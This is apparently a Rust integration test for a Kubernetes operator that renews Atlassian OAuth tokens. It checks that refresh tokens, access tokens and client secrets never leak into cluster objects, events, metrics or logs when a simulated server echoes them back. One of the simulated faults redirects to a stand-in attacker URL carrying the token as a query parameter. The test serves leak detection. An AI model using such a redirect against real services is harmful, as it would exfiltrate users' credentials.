//! Refresh tokens, access tokens and client secrets stay in the Secrets that they belong to.

use atlassian_sim::{Canned, Fault, Rule};
use chrono::TimeDelta;
use control_plane::faults::{Fault as ApiFault, Requests, Verb};
use jira_credential_operator::api::Reason;
use kube::ResourceExt;
use kube::api::ListParams;
use serde_json::json;

use super::{RENEWAL_IS_DUE, SCOPES, grant_of};
use crate::redaction::{Canaries, Log};
use crate::support::World;

/// Answers of somebody who repeats what he was sent.
fn echoes(token: &str) -> Vec<Fault> {
    let canned = |status, kind: &str, body: String| {
        Fault::Canned(Canned {
            status,
            headers: [("content-type".to_owned(), kind.to_owned())].into(),
            body,
        })
    };
    vec![
        canned(
            400,
            "application/json",
            json!({"error": token, "error_description": token}).to_string(),
        ),
        canned(403, "text/html", format!("<html>{token}</html>")),
        canned(
            200,
            "application/json",
            json!({"access_token": "", "refresh_token": token}).to_string(),
        ),
        canned(200, "text/plain", token.to_owned()),
        Fault::Redirect {
            status: 302,
            location: format!("https://evil.example/?token={token}"),
        },
    ]
}

/// What the cluster shows of the credentials of a world, apart from the values of Secrets.
pub(crate) async fn look_around(world: &World, canaries: &Canaries) {
    let all = ListParams::default();
    for object in world.credentials().list(&all).await.unwrap() {
        canaries.absent("a credential", &serde_json::to_string(&object).unwrap());
        for event in world.events(&object.name_any()).await {
            canaries.absent("an event", &serde_json::to_string(&event).unwrap());
        }
    }
    // Labels and annotations are for all to read who may list.
    for secret in world.secrets().list(&all).await.unwrap() {
        let metadata = serde_json::to_string(&secret.metadata).unwrap();
        canaries.absent("metadata", &metadata);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_happens_to_a_renewal_no_token_is_told() {
    let world = World::new().await;
    let log = Log::default();
    let operator = world.operator_logging(|_| {}, log.dispatch()).await;
    let mut canaries = Canaries::default();
    let (app, consent) = world.oauth("bot").await;
    canaries.watch("the seed", &consent.refresh_token());
    canaries.watch("the client secret", &app.secret());
    world.wait_ready("bot").await;
    operator.quiet().await;
    canaries.watch("the refresh token", &world.kept("bot").await);
    canaries.watch("the access token", &world.published("bot").await);
    for fault in echoes(&world.kept("bot").await) {
        world
            .sim
            .fault(Rule::new(fault).host(world.sim.auth_host()).once());
        world.renewal_falls_due(&operator).await;
        for _ in 0..3 {
            world.advance(TimeDelta::seconds(95));
            operator.look_again(1).await;
        }
        // What is not taken is left alone until something changes.
        world
            .annotate(
                "bot",
                "jira-operator.dev/renew",
                &world.clock.now().to_string(),
            )
            .await;
        world.wait_ready("bot").await;
        operator.quiet().await;
        canaries.watch("a refresh token", &world.kept("bot").await);
        canaries.watch("an access token", &world.published("bot").await);
    }
    // The gateway repeats the token, and the API server fails while one is stored.
    let body = json!([{"id": world.published("bot").await, "url": world.published("bot").await, "scopes": []}]);
    let canned = Fault::Canned(Canned {
        status: 200,
        headers: [("content-type".to_owned(), "application/json".to_owned())].into(),
        body: body.to_string(),
    });
    let update = Requests::verb(Verb::Update).resource("secrets");
    operator
        .faults
        .add(update.clone(), 2..=3, ApiFault::Status(422));
    world
        .sim
        .fault(Rule::new(canned).host(world.sim.gateway_host()).once());
    world.renewal_falls_due(&operator).await;
    for _ in 0..3 {
        world.advance(TimeDelta::seconds(95));
        operator.look_again(1).await;
    }
    world.wait_ready("bot").await;
    canaries.watch("a refresh token", &world.kept("bot").await);
    canaries.watch("an access token", &world.published("bot").await);
    // A grant and a published Secret are no sources.
    let mut spec = world.oauth_spec("twin", &app);
    spec["auth"]["oauth2"]["refreshTokenSecretRef"] =
        json!({"name": grant_of("bot"), "key": "grant"});
    world.client_secret("twin", &app.secret()).await;
    world.create("twin", spec).await;
    world.wait_unready("twin", Reason::SourceIsTarget).await;
    let fresh = app.consent("bot@acme.example", &[&world.cloud()], &SCOPES);
    canaries.watch("another seed", &fresh.refresh_token());
    fresh.revoke();
    world.seed("bot", &fresh.refresh_token()).await;
    operator.quiet().await;
    consent.revoke();
    world.advance(RENEWAL_IS_DUE);
    operator.look_again(2).await;
    world.wait_unready("bot", Reason::ReconsentRequired).await;
    look_around(&world, &canaries).await;
    canaries.absent("metrics", &operator.metrics.render().unwrap());
    operator.stop().await;
    let log = log.text();
    for said in [
        "asked the token endpoint",
        "a renewal was refused",
        "a renewal is not stored yet",
    ] {
        assert!(log.contains(said), "{said} is not in {log}");
    }
    canaries.absent("the log", &log);
}
